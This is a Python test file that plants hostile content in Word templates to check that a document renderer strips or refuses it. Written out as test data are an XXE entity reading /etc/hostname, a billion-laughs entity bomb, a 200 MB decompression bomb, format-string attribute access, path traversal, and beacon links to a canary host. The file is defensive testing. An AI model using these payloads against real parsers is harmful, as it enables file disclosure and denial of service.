"""The hostile-template corpus: a template someone sends you carries nothing into your books.

Each case is a copy of ``formal-a4`` with something planted in its
``reference.docx`` or ``template.json``: external relationships (an attached
template, images and frames on a server), comments, web settings, custom XML,
macros, embedded fonts, XML entity tricks, parts or files too big, header
patterns that would exhaust memory. For every case the template either works
and the exported Word file holds none of what was planted (no canary text, no
part we do not make, no external relationship), or it is refused with a clear
message; either way the template's files are unchanged and memory stays bounded.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import shutil
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from briefbook.document.model import Contents, Cover, Document, Heading, Metadata, Paragraph, Run
from briefbook.errors import BriefBookError
from briefbook.render.docx import render_docx
from briefbook.render.pdf import render_pdf
from briefbook.render.template import TEMPLATES_DIR, load_template

CANARY = "CANARY-b7e1"
WORKS = "works"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_R = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
# Parts an export of ours may hold: ours, and what python-docx adds for headers and pictures.
ALLOWED_PARTS = re.compile(
    r"^(\[Content_Types\]\.xml|_rels/\.rels|docProps/core\.xml|word/(document|styles|numbering|settings|"
    r"fontTable|theme/theme1)\.xml|word/_rels/document\.xml\.rels|word/(header|footer)\d+\.xml|"
    r"word/_rels/(header|footer|fontTable)\d*\.xml\.rels|word/media/image\d+\.\w+|word/fonts/font\d+\.odttf)$"
)


@dataclass(frozen=True)
class Case:
    id: str
    plant: Callable[[Path], None]  # changes the copied template folder
    expect: str = WORKS  # or a regular expression of the refusal


def _members(folder: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(folder / "reference.docx") as z:
        return {n: z.read(n) for n in z.namelist()}


def _save(folder: Path, members: dict[str, bytes], *, stored: bool = False) -> None:
    with zipfile.ZipFile(
        folder / "reference.docx", "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    ) as z:
        for name, data in members.items():
            z.writestr(name, data)


def _add_rel(rels: bytes, rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace(
        b"</Relationships>",
        f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'.encode(),
    )


def _override(types: bytes, part: str, content_type: str) -> bytes:
    return types.replace(
        b"</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode()
    )


def _with(*edits: Callable[[dict[str, bytes]], None]) -> Callable[[Path], None]:
    def plant(folder: Path) -> None:
        members = _members(folder)
        for edit in edits:
            edit(members)
        _save(folder, members)

    return plant


def _doc_rel(kind: str, target: str, external: bool = False, rid: str = "rId90"):
    def edit(m: dict[str, bytes]) -> None:
        m["word/_rels/document.xml.rels"] = _add_rel(
            m["word/_rels/document.xml.rels"], rid, kind, target, external
        )

    return edit


def _part(name: str, data: str, content_type: str = "application/xml"):
    def edit(m: dict[str, bytes]) -> None:
        m[name] = data.encode()
        m["[Content_Types].xml"] = _override(m["[Content_Types].xml"], name, content_type)

    return edit


def _settings(extra: str):
    def edit(m: dict[str, bytes]) -> None:
        m["word/settings.xml"] = m["word/settings.xml"].replace(
            b"</w:settings>", extra.encode() + b"</w:settings>"
        )

    return edit


def _styles(transform: Callable[[bytes], bytes]):
    def edit(m: dict[str, bytes]) -> None:
        m["word/styles.xml"] = transform(m["word/styles.xml"])

    return edit


WNS = f'xmlns:w="{W}" xmlns:r="{R}"'
CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def _attached_template(m: dict[str, bytes]) -> None:
    _settings('<w:attachedTemplate r:id="rId1"/>')(m)
    m["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_R}"><Relationship Id="rId1" '
        f'Type="{R}/attachedTemplate" Target="http://{CANARY}.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def _theme_with_remote_image(m: dict[str, bytes]) -> None:
    theme = (
        '<?xml version="1.0"?><a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{R}" name="{CANARY}"><a:themeElements><a:clrScheme name="x"/><a:fontScheme name="x"/>'
        '<a:fmtScheme name="x"><a:bgFillStyleLst><a:blipFill><a:blip r:link="rId1"/></a:blipFill>'
        "</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"
    )
    _part("word/theme/theme1.xml", theme, "application/vnd.openxmlformats-officedocument.theme+xml")(m)
    _doc_rel("theme", "theme/theme1.xml")(m)
    m["word/theme/_rels/theme1.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_R}"><Relationship Id="rId1" Type="{R}/image" '
        f'Target="http://{CANARY}.example/beacon.png" TargetMode="External"/></Relationships>'
    ).encode()


def _embedded_font(m: dict[str, bytes]) -> None:
    m["word/fontTable.xml"] = m["word/fontTable.xml"].replace(
        b"</w:font>",
        f'<w:embedRegular xmlns:r="{R}" r:id="rId1" w:fontKey="{{00000000-0000}}"/></w:font>'.encode(),
        1,
    )
    m["word/fonts/font1.odttf"] = CANARY.encode() * 100
    m["word/_rels/fontTable.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_R}"><Relationship Id="rId1" Type="{R}/font" '
        'Target="fonts/font1.odttf"/></Relationships>'
    ).encode()


def _picture_bullet(m: dict[str, bytes]) -> None:
    m["word/numbering.xml"] = m["word/numbering.xml"].replace(
        b"<w:abstractNum ",
        (
            '<w:numPicBullet w:numPicBulletId="0"><w:pict>'
            '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
            f'xmlns:r="{R}" r:id="rId1" o:title="{CANARY}" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"/>'
            "</w:pict></w:numPicBullet><w:abstractNum "
        ).encode(),
        1,
    )
    m["word/_rels/numbering.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG_R}"><Relationship Id="rId1" Type="{R}/image" '
        f'Target="http://{CANARY}.example/b.png" TargetMode="External"/></Relationships>'
    ).encode()


def _zip_bomb_styles(folder: Path) -> None:
    members = _members(folder)
    styles = members["word/styles.xml"]
    members["word/styles.xml"] = styles.replace(b"</w:styles>", b" " * (200 * 1024 * 1024) + b"</w:styles>")
    _save(folder, members)


def _many_parts(folder: Path) -> None:
    members = _members(folder)
    for i in range(5000):
        members[f"word/junk{i}.xml"] = b"<x/>"
    _save(folder, members)


def _huge_file(folder: Path) -> None:
    members = _members(folder)
    members["word/media/big.bin"] = bytes(range(256)) * (90 * 1024)  # 23 MB, stored
    _save(folder, members, stored=True)


def _spec_edit(change: Callable[[dict], object]) -> Callable[[Path], None]:
    def plant(folder: Path) -> None:
        spec = json.loads((folder / "template.json").read_text(encoding="utf-8"))
        change(spec)
        (folder / "template.json").write_text(json.dumps(spec), encoding="utf-8")

    return plant


def _header(pattern: str) -> Callable[[Path], None]:
    return _spec_edit(lambda spec: spec.__setitem__("header", pattern))


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY a "'
    + CANARY
    + '"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;">]>'
)


def _entities(root_xml: bytes) -> bytes:
    body = root_xml.split(b"?>", 1)[1]
    return BILLION_LAUGHS.encode() + body.replace(
        b"</w:styles>", b"<w:latentStyles w:count='&f;'/></w:styles>"
    )


def _xxe(root_xml: bytes) -> bytes:
    body = root_xml.split(b"?>", 1)[1]
    head = '<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    return head.encode() + body.replace(b"</w:styles>", b"<w:docDefaults>&x;</w:docDefaults></w:styles>")


CASES = [
    Case("attached-template-on-a-server", _with(_attached_template)),
    Case(
        "external-image-in-a-header",
        _with(
            _part(
                "word/header1.xml",
                f"<w:hdr {WNS}><w:p><w:r><w:t>{CANARY}</w:t></w:r></w:p></w:hdr>",
                f"{CT}.header+xml",
            ),
            _doc_rel("header", "header1.xml", rid="rId91"),
            _doc_rel("image", f"http://{CANARY}.example/beacon.png", external=True),
        ),
    ),
    Case("external-frame", _with(_doc_rel("frame", f"http://{CANARY}.example/frame.html", external=True))),
    Case(
        "comments",
        _with(
            _part(
                "word/comments.xml",
                f'<w:comments {WNS}><w:comment w:id="0" w:author="{CANARY}">'
                f"<w:p><w:r><w:t>{CANARY}</w:t></w:r>"
                "</w:p></w:comment></w:comments>",
                f"{CT}.comments+xml",
            ),
            _doc_rel("comments", "comments.xml"),
        ),
    ),
    Case(
        "web-settings",
        _with(
            _part(
                "word/webSettings.xml",
                f'<w:webSettings {WNS}><w:frameset><w:frame><w:sourceFileName r:id="rId1"/>'
                f'<w:name w:val="{CANARY}"/>'
                "</w:frame></w:frameset></w:webSettings>",
                f"{CT}.webSettings+xml",
            ),
            _doc_rel("webSettings", "webSettings.xml"),
        ),
    ),
    Case(
        "custom-xml",
        _with(
            _part("customXml/item1.xml", f"<secret>{CANARY}</secret>"),
            _doc_rel("customXml", "../customXml/item1.xml"),
        ),
    ),
    Case(
        "app-and-custom-properties",
        _with(
            _part(
                "docProps/app.xml",
                f"<Properties><Company>{CANARY}</Company></Properties>",
                "application/vnd.openxmlformats-officedocument.extended-properties+xml",
            ),
            _part(
                "docProps/custom.xml",
                '<Properties><property name="x">'
                f'<vt:lpwstr xmlns:vt="v">{CANARY}</vt:lpwstr></property></Properties>',
                "application/vnd.openxmlformats-officedocument.custom-properties+xml",
            ),
        ),
    ),
    Case(
        "macros",
        _with(
            _part("word/vbaProject.bin", CANARY * 10, "application/vnd.ms-office.vbaProject"),
            _doc_rel("vbaProject", "vbaProject.bin"),
        ),
    ),
    Case(
        "glossary-document",
        _with(
            _part(
                "word/glossary/document.xml",
                f"<w:glossaryDocument {WNS}><w:docParts><w:docPart><w:docPartBody>"
                f"<w:p><w:r><w:t>{CANARY}</w:t>"
                "</w:r></w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>",
                f"{CT}.document.glossary+xml",
            ),
            _doc_rel("glossaryDocument", "glossary/document.xml"),
        ),
    ),
    Case(
        "private-settings",
        _with(
            _settings(
                f'<w:docVars><w:docVar w:name="author" w:val="{CANARY}"/></w:docVars>'
                '<w:rsids><w:rsidRoot w:val="00A1B2C3"/></w:rsids>'
                '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                f'<w:query w:val="SELECT * FROM {CANARY}"/>'
                '</w:mailMerge><w:documentProtection w:edit="readOnly" w:hash="abc"/>'
            )
        ),
    ),
    Case("theme-with-a-remote-image", _with(_theme_with_remote_image)),
    Case("embedded-font", _with(_embedded_font)),
    Case("picture-bullet-from-a-server", _with(_picture_bullet)),
    Case("styles-with-entity-expansion", _with(_styles(_entities)), "cannot be read|works"),
    Case("styles-with-external-entity", _with(_styles(_xxe)), "cannot be read|works"),
    Case("styles-part-inflates-to-200-MB", _zip_bomb_styles, "too large"),
    Case("5000-parts", _many_parts, "5,009 parts; BriefBook will not use it"),
    Case("reference-over-20-MB", _huge_file, "larger than 20 MB"),
    Case(
        "reference-not-a-zip",
        lambda f: (f / "reference.docx").write_bytes(b"PK\x03\x04" + b"\x00" * 500),
        "not a Word",
    ),
    Case("reference-without-styles", _with(lambda m: m.pop("word/styles.xml")), "no styles"),
    Case("header-width-of-4-billion", _header("{title:>4000000000}"), "no widths or other formatting"),
    Case("header-attribute-access", _header("{title.__class__.__mro__}"), "may use only"),
    Case("header-positional-field", _header("{0}"), "may use only"),
    Case("header-conversion", _header("{title!r}"), "may use only"),
    Case("header-unknown-field", _header("{password}"), "may use only"),
    Case("header-broken-brace", _header("{title"), "not a pattern"),
    Case("header-too-long", _header("{title} " + "x" * 500), "longer than 200"),
    Case("header-all-fields", _header("{title} · {subject} · {banner} · {author} {{braces}}")),
    Case(
        "template-json-of-10-MB",
        lambda f: (f / "template.json").write_text('{"name": "' + "x" * (10 * 1024 * 1024) + '"}'),
        "larger than 256 KB",
    ),
    Case(
        "template-json-nested-100000-deep",
        lambda f: (f / "template.json").write_text("[" * 100_000 + "]" * 100_000),
        "cannot be read",
    ),
    Case(
        "reference-outside-the-folder",
        _spec_edit(lambda s: s.__setitem__("reference_docx", "../../formal-a4/reference.docx")),
        "must be a file name in the template's folder",
    ),
    Case(
        "reference-absolute-path",
        _spec_edit(lambda s: s.__setitem__("reference_docx", "/etc/hostname")),
        "must be a file name in the template's folder",
    ),
]


def _document() -> Document:
    return Document(
        Metadata(title="Sổ tay", subject="Bangkok", banner="INTERNAL", language="vi"),
        [Cover("Sổ tay"), Contents("Mục lục"), Heading(1, "Chương trình", "a"), Paragraph([Run("Nội dung")])],
    )


def _digests(folder: Path) -> dict[str, str]:
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()
    }


def test_corpus_size() -> None:
    assert len(CASES) >= 30 and len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_template(case: Case, tmp_path: Path) -> None:
    folder = tmp_path / "received-template"
    shutil.copytree(TEMPLATES_DIR / "formal-a4", folder)
    case.plant(folder)
    before = _digests(folder)
    tracemalloc.start()
    try:
        try:
            template = load_template(folder)
            target = render_docx(_document(), template, tmp_path / "book.docx")
            pdf = render_pdf(_document(), template, tmp_path / "book.pdf")
        except BriefBookError as exc:
            if case.expect == WORKS or not re.search(case.expect, str(exc)):
                raise
            assert "Traceback" not in str(exc) and not (tmp_path / "book.docx").exists()
            return
        finally:
            peak = tracemalloc.get_traced_memory()[1]
            assert _digests(folder) == before, "the template's files were changed"
    finally:
        tracemalloc.stop()
    assert peak < 150 * 1024 * 1024, f"{peak / 2**20:.0f} MB used"
    assert re.fullmatch(case.expect, WORKS) or "works" in case.expect.split("|"), "should have been refused"
    with zipfile.ZipFile(target) as z:
        names = z.namelist()
        contents = {n: z.read(n) for n in names}
    assert [n for n in names if not ALLOWED_PARTS.match(n)] == []
    for name, data in contents.items():
        assert CANARY.encode() not in data, f"planted text in {name}"
        assert b'TargetMode="External"' not in data, f"an external relationship in {name}"
        assert b"attachedTemplate" not in data and b"docVar" not in data and b"mailMerge" not in data
    assert CANARY.encode() not in pdf.read_bytes()
    from docx import Document as Word

    Word(io.BytesIO(target.read_bytes()))  # and Word's reader still opens it
